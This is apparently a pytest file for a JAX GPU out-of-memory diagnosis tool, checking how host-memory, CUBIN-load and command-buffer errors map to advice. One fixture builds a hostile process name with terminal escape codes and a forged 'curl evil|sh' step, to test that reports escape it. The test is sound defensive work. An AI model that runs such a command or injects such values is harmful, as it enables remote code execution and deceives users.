        JaxRuntimeError(text("gpu_host_memory_0.10.2.txt")), sample=sample, live=[], synthetic=True
    )
    assert (report.error.form, report.error.requested_range) == ("host", (14495 * 2**20, 14505 * 2**20 - 1))
    assert report.requested_line() == (
        "Requested: 14.16 GiB (the error printed it rounded: 15,199,109,120 to 15,209,594,879 bytes)."
    )
    (fix,) = report.fixes
    # 15204184228 * 1.25 = 17.70 GiB: the limit is at least 65
    assert (fix.kind, fix.action) == (
        "host_memory",
        "%env XLA_PJRT_GPU_HOST_MEMORY_LIMIT_GB=65  (restart the kernel, then run it before JAX starts)",
    )


@pytest.mark.parametrize("name, ordinal", [("gpu_cubin_load_0.10.2.txt", 0), ("gpu_cubin_load_internal.txt", None)])
def test_cubin_load_out_of_memory_is_recognised_with_no_size(name, ordinal):
    found = recognise(JaxRuntimeError(text(name)))
    assert found is not None
    assert (found.form, found.requested_bytes, found.ordinal) == ("cubin", None, ordinal)


def test_cubin_load_failing_for_another_reason_is_not_out_of_memory():
    msg = "INTERNAL: Failed to load in-memory CUBIN (compiled for a different GPU?).: CUDA_ERROR_NO_BINARY_FOR_GPU"
    assert recognise(JaxRuntimeError(msg)) is None


def test_host_memory_error_gets_host_advice_only():
    # GPU numbers that would advise a larger fraction and blame another kernel, were this the device
    r = OomReadings(
        requested=15_200_000_000,
        device_total=80 * GiB,
        device_free=GiB,
        bytes_in_use=38 * GiB,
        pool_bytes=40 * GiB,
        bytes_limit=40 * GiB,
        largest_free_block=GiB,
        fraction=0.5,
        others=(OtherProcess(4_200_101, 30 * GiB, "Jupyter kernel"),),
        error_form="host",
        host_array_bytes=50 * GiB,
        synthetic=True,
    )
    (fix,) = advise(r)
    assert fix.kind == "host_memory"
    # (15200000000 + 50 GiB) * 1.25 = 80.2 GiB -> 81
    assert fix.action.startswith("%env XLA_PJRT_GPU_HOST_MEMORY_LIMIT_GB=81")
    assert "14.16 GiB requested; live arrays in host memory kinds hold 50.00 GiB" in fix.title
    assert "host RAM, not GPU memory" in fix.why and "default 64" in fix.why
    assert "pinned_host" in fix.extra_actions[0]


def test_cubin_load_with_preallocation_advises_preallocation_off_with_the_numbers():
    # preallocated pool 60 of 80 GiB, 40 in use; NVML 200 MiB free
    r = OomReadings(
        requested=None,
        device_total=80 * GiB,
        device_free=200 * MiB,
        bytes_in_use=40 * GiB,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=20 * GiB,
        preallocate=True,
        fraction=0.75,
        error_form="cubin",
        synthetic=True,
    )
    fix = advise(r)[0]
    assert (fix.kind, fix.action) == ("kernel_load", "%gpumem preallocate off  (restart the kernel, then run it first)")
    assert fix.gain_bytes == 20 * GiB  # the pool's unused bytes
    assert "NVML shows 200.00 MiB free of 80.00 GiB; JAX's pool holds 60.00 GiB (75% of the device)" in fix.why
    assert fix.extra_actions == ("%gpumem fraction 0.65  (restart the kernel, then run it first)",)


def test_cubin_load_without_preallocation_advises_freeing_device_memory():
    r = OomReadings(
        requested=None,
        device_total=80 * GiB,
        device_free=100 * MiB,
        bytes_in_use=70 * GiB,
        pool_bytes=70 * GiB,
        bytes_limit=76 * GiB,
        largest_free_block=0,
        preallocate=False,
        fraction=0.95,
        error_form="cubin",
        synthetic=True,
    )
    fix = next(f for f in advise(r) if f.kind == "kernel_load")
    assert fix.action.startswith("%gpumem free")
    assert fix.extra_actions == ("%gpumem fraction 0.85  (restart the kernel, then run it first)",)


def test_report_of_a_host_memory_error_gives_no_device_fix():
    # the synthetic two-kernels trace would blame the other kernel for a device error
    sample = last_sample("synthetic_two_kernels.jsonl")
    report = doctor.oom_report(
        JaxRuntimeError(text("gpu_host_memory_0.10.2.txt")), sample=sample, live=[], synthetic=True
    )
    assert [f.kind for f in report.fixes] == ["host_memory"]
    assert "XLA_PJRT_GPU_HOST_MEMORY_LIMIT_GB" in str(report)


def test_report_of_a_cubin_load_error_lists_the_kernel_load_fix():
    sample = last_sample("synthetic_two_kernels.jsonl")
    report = doctor.oom_report(
        JaxRuntimeError(text("gpu_cubin_load_0.10.2.txt")), sample=sample, live=[], synthetic=True
    )
    assert report.error.form == "cubin"
    assert "kernel_load" in [f.kind for f in report.fixes]


# --- another user's process name, in the text report --------------------------------------------

# What a co-tenant can put in argv[0]: clear the screen, home the cursor, then lines that look
# like the report's own advice.
HOSTILE_ARGV0 = "\x1b[2J\x1b[Htrain\n\nWhat\tto\tdo,\tbest\tfirst:\n\t1.\tcurl\tevil|sh\x1b[8m"


@pytest.fixture
def hostile_process():
    """A real process whose command line starts with HOSTILE_ARGV0 (the kernel reads it from
    /proc/PID/cmdline, as for any other process on the device)."""
    import subprocess
    import sys

    proc = subprocess.Popen([HOSTILE_ARGV0, "-c", "import time; time.sleep(60)"], executable=sys.executable)
    # Until the child has exec'd, /proc/PID/cmdline is still the parent's: wait for the new one.
    cmdline = f"/proc/{proc.pid}/cmdline"
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        with open(cmdline, "rb") as f:
            if f.read().startswith(HOSTILE_ARGV0.encode()):
                break
        time.sleep(0.01)
    try:
        yield proc.pid
    finally:
        proc.kill()
        proc.wait(10)


def test_another_process_s_name_cannot_clear_the_terminal_or_forge_lines_in_the_text_report(hostile_process):
    from dataclasses import replace

    sample = last_sample("synthetic_two_kernels.jsonl")  # pid 41234 holds 76% of GPU 0
    dev = sample.devices[0]
    procs = tuple(replace(p, pid=hostile_process) if p.pid == 41234 else p for p in dev.processes)
    sample = replace(sample, devices=(replace(dev, processes=procs), *sample.devices[1:]))
    error = OomError("gpu_human", 20 * GiB, False, None, "JaxRuntimeError", "synthetic")
    report = doctor.oom_report(error, sample=sample, live=[], synthetic=True)
    text = str(report)
    assert not any(ord(c) < 32 and c != "\n" or 0x7F <= ord(c) < 0xA0 for c in text)
    assert text.count("What to do, best first:") == 1 and "\n  1. " in text and "\n\t1." not in text
    assert (
        f"pid {hostile_process} (\\x1b[2J\\x1b[Htrain\\n\\nWhat\\tto\\tdo,\\tbest\\tfirst:\\n\\t1.\\tcurl\\tevil|sh\\x1b[8m)"
        in text
    )
    assert "What\tto\tdo" in report._repr_html_()  # HTML escapes its own way (html.escape), as before


# --- a CUDA graph the driver could not instantiate ---------------------------------------------
#
# Text (tests/data/oom_texts/README.md): GpuCommandBuffer::Finalize
# (xla/stream_executor/gpu/gpu_command_buffer.cc, openxla/xla b1a49b1291459293c102f4b30dbb1b47f59ddac2;
# the format string is in jax-cuda12-pjrt 0.10.2's xla_cuda_plugin.so) returns RESOURCE_EXHAUSTED
# "Underlying backend ran out of memory trying to instantiate command buffer with N (total of M
# alive graphs in the process) ...". --xla_gpu_enable_command_buffer is the list of command types
# recorded into command buffers (xla/debug_options_flags.cc); an empty list records none.


def test_command_buffer_text_is_recognised_as_its_own_form_with_no_size():
    found = recognise(JaxRuntimeError(text("gpu_command_buffer_0.10.2.txt")))
    assert found is not None
    assert (found.form, found.requested_bytes, found.requested_range) == ("command_buffer", None, None)


def test_command_buffer_error_advises_disabling_command_buffers_first():
    # preallocated pool 60 of 80 GiB; NVML 150 MiB free
    r = OomReadings(
        requested=None,
        device_total=80 * GiB,
        device_free=150 * MiB,
        bytes_in_use=40 * GiB,
        pool_bytes=60 * GiB,
        bytes_limit=60 * GiB,
        largest_free_block=20 * GiB,
        preallocate=True,
        fraction=0.75,
        error_form="command_buffer",
        synthetic=True,
    )
    fix = advise(r)[0]
    assert fix.kind == "command_buffer"
    assert fix.action.startswith("%env XLA_FLAGS=--xla_gpu_enable_command_buffer=  (restart the kernel")
    assert (
        fix.extra_actions[0]
        == "Leave the driver more room: %gpumem preallocate off  (restart the kernel, then run it first)"
    )


def test_command_buffer_error_without_preallocation_offers_a_lower_fraction():
    r = OomReadings(
        requested=None,
        device_total=80 * GiB,
        device_free=100 * MiB,
        bytes_in_use=70 * GiB,
        pool_bytes=70 * GiB,
        bytes_limit=76 * GiB,
        largest_free_block=0,
        preallocate=False,
        fraction=0.95,
        error_form="command_buffer",
        synthetic=True,
    )
    fix = advise(r)[0]
    assert fix.kind == "command_buffer"
    assert (
        fix.extra_actions[0]
        == "Leave the driver more room: %gpumem fraction 0.85  (restart the kernel, then run it first)"
    )


def test_report_of_a_command_buffer_error_names_its_fix_first():
    """Before: the text was only RESOURCE_EXHAUSTED, and the report led with the other kernel."""
    sample = last_sample("synthetic_two_kernels.jsonl")
    report = doctor.oom_report(
        JaxRuntimeError(text("gpu_command_buffer_0.10.2.txt")), sample=sample, live=[], synthetic=True
    )
    assert report.error.form == "command_buffer"
    assert report.fixes[0].kind == "command_buffer"
    assert "--xla_gpu_enable_command_buffer=" in str(report)
